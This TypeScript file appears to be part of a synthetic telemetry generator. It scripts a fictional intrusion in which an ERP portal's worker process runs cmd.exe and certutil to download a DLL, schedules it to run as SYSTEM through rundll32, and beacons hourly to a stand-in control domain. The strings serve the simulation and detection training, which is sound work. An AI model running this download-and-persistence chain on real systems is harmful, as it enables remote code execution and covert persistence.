import { openClient, visitThroughProxy } from "../network/sessions.ts";
import { clockTicks } from "../network/timing.ts";
import { openStream } from "../random-stream.ts";
import { hourUs, localTime, minuteUs, secondUs, sites } from "../world/calendar.ts";
import { issuers, type Destination } from "../world/destinations.ts";
import { hostsWithRole, hostWithRole, staticIp, type World } from "../world/world.ts";
import { networkService, systemAccount, type Process } from "../windows/machine.ts";
import { oneOff, program } from "../windows/programs.ts";
import { connected, launch, loaded, wrote } from "../windows/sysmon.ts";
import { Diary, recorderFor, type Stage, type Story } from "./story.ts";

const startDay = 6;
const startUs = localTime(sites.larnmouth, startDay, 2.1) + 17_349_120;
const control: Destination = {
  name: "status.kelpwood-systems.example",
  ips: ["203.0.113.58"],
  issuer: issuers[0],
  ttlS: 3600,
  bytes: 300,
  tls: true,
};
const module = oneOff("C:\\ProgramData\\Meridian\\cache\\mrdcache.dll", { key: "story/slow-module" });

const hardCodedAgent = "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; rv:11.0) like Gecko";

/** A portal worker is made to run a command; from then a library in rundll32 calls out through the proxy once an hour. */
export function slowServerBeacon(world: World): Story {
  const servers = hostsWithRole(world, "application");
  const host = servers[2] ?? hostWithRole(world, "application");
  const diary = new Diary();
  let holder: Process | undefined;
  let calls = 0;
  const enact = (stage: Stage): void => {
    if (stage.day.index < startDay) return;
    if (stage.day.index === startDay) settle(stage);
    const client = openClient(world, host, staticIp(host), openStream(world.seed, `story/slow/${stage.day.index}`));
    const { random } = client;
    const to = recorderFor(stage, host, "slow-calls");
    diary.place(host, client.ip);
    // The sleep is an hour from a fixed start; each call is up to three minutes late.
    for (const tsUs of clockTicks(
      random,
      Math.max(stage.day.startUs, startUs + 20 * minuteUs),
      stage.day.endUs,
      hourUs,
      startUs,
      3 * minuteUs,
    )) {
      const transfer = {
        out: 402 + random.int(0, 40),
        back: 296 + random.int(0, 30),
        durationUs: random.int(220, 700) * 1000,
        stack: "schannel" as const,
      };
      const call = visitThroughProxy(stage.net, client, tsUs, control, transfer, hardCodedAgent);
      if (holder !== undefined && calls++ % 8 === 0) connected(to, holder, call);
      diary.beacon(client.ip, control.name, stage.day.date, tsUs);
    }
  };
  const settle = (stage: Stage): void => {
    const to = recorderFor(stage, host, "slow");
    const shell = launch(to, {
      program: program("cmd"),
      parent: to.machine.standing("w3wp"),
      command:
        'cmd.exe /c certutil -urlcache -f http://10.60.200.77/a C:\\ProgramData\\Meridian\\cache\\mrdcache.dll & schtasks /create /tn "Meridian Cache" /ru SYSTEM /sc onstart /tr "rundll32 C:\\ProgramData\\Meridian\\cache\\mrdcache.dll,Sync" & schtasks /run /tn "Meridian Cache"',
      account: networkService,
      tsUs: startUs,
    });
    diary.process(host, shell, "command run by the portal's worker process");
    const fetch = launch(to, {
      program: program("certutil"),
      parent: shell,
      command: "certutil -urlcache -f http://10.60.200.77/a C:\\ProgramData\\Meridian\\cache\\mrdcache.dll",
      account: networkService,
      tsUs: startUs + secondUs,
    });
    diary.process(host, fetch, "fetched the library");
    wrote(to, fetch, startUs + 3 * secondUs, module.image);
    diary.process(
      host,
      launch(to, {
        program: program("schtasks"),
        parent: shell,
        command:
          'schtasks  /create /tn "Meridian Cache" /ru SYSTEM /sc onstart /tr "rundll32 C:\\ProgramData\\Meridian\\cache\\mrdcache.dll,Sync"',
        account: networkService,
        tsUs: startUs + 4 * secondUs,
      }),
      "made the task",
    );
    const held = launch(to, {
      program: program("rundll32"),
      parent: to.machine.standing("schedule"),
      command: "rundll32.exe C:\\ProgramData\\Meridian\\cache\\mrdcache.dll,Sync",
      account: systemAccount,
      tsUs: startUs + 6 * secondUs,
    });
    diary.process(host, held, "holds the library that calls out");
    loaded(to, held, startUs + 7 * secondUs, module);
    holder = held;
  };
  return { enact, truth: () => diary.close(about) };
}

const about = {
  id: "slow-server-beacon",
  title: "One call an hour",
  narrative:
    "On Sunday 15 March at 02:06 the worker process of the ERP portal runs a shell that fetches a library and makes a start-up task. " +
    "From then to the end of the fortnight the server asks the proxy for status.kelpwood-systems.example once an hour, among its ordinary update and licence traffic.",
  techniques: [
    { id: "T1190", name: "Exploit Public-Facing Application" },
    { id: "T1053.005", name: "Scheduled Task" },
    { id: "T1218.011", name: "Rundll32" },
    { id: "T1090.001", name: "Internal Proxy" },
    { id: "T1071.001", name: "Web Protocols" },
  ],
} as const;
